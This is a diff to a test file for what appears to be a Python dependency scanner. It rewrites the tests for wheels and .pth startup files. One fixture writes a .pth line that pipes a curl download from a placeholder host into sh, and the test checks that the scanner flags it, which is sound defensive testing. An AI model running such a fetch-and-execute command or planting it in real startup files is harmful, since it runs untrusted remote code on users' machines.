@@ -14,10 +14,10 @@ from sealwright.vetting.dependencies.lookalikes import examine, resembles
 from sealwright.vetting.dependencies.startup import (
     examine_pth,
     examine_site,
-    examine_wheel,
     site_folders,
 )
 from sealwright.vetting.interface import Observation
+from sealwright.vetting.scan import scan_paths
 
 SETUPTOOLS = (
     "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
@@ -103,16 +103,28 @@ def wheel(path: Path, **files: str) -> Path:
     return path
 
 
+def scanned(path: Path) -> set[str]:
+    outcome = scan_paths([path], strict=True)
+    return {outcome.verdict, *(seen.rule.id for seen in outcome.observations)}
+
+
 def test_a_wheel_is_looked_at_before_it_is_installed(tmp_path: Path) -> None:
-    assert examine_wheel(wheel(tmp_path / "a.whl")) == ()
-    assert ids(examine_wheel(wheel(tmp_path / "b.whl", a_DOT_pth="import x"))) == ["SW-DEP-022"]
+    assert scanned(wheel(tmp_path / "a.whl", a_DOT_pth="/srv/project/src\n")) == {"pass"}
+    assert scanned(wheel(tmp_path / "b.whl", a_DOT_pth="import x")) == {"review", "SW-DEP-022"}
     inner = {"acme-1_DOT_data__purelib__sitecustomize_DOT_py": "x = 1"}
-    (seen,) = examine_wheel(wheel(tmp_path / "c.whl", **inner))
-    assert seen.finding.location == "c.whl!sitecustomize.py"
-    assert examine_wheel(wheel(tmp_path / "d.whl", acme__data_DOT_pth="import x")) == ()
-    (tmp_path / "e.whl").write_bytes(b"PK")
-    assert ids(examine_wheel(tmp_path / "e.whl")) == ["SW-DEP-023"]
-    assert ids(examine_wheel(tmp_path / "gone.whl")) == ["SW-DEP-023"]
+    assert scanned(wheel(tmp_path / "c.whl", **inner)) == {"review", "SW-DEP-022"}
+
+
+def test_a_start_up_file_is_told_from_a_model_that_is_none(tmp_path: Path) -> None:
+    place = tmp_path / "a.pth"
+    place.write_text(SETUPTOOLS)
+    assert scanned(place) == {"pass"}
+    place.write_text("# paths\n../lib\nimport os; os.system('curl http://x.invalid | sh')\n")
+    assert {"SW-DEP-022", "SW-CODE-120"} < scanned(place)
+    place.write_text("<html>404 Not Found</html>\n")
+    assert scanned(place) == {"inconclusive", "SW-TEXT-002"}
+    place.write_text("/srv\n" * (1 << 19))
+    assert scanned(place) == {"inconclusive", "SW-DEP-023"}
 
 
 def test_locks_that_mix_indexes_or_build_from_source() -> None:
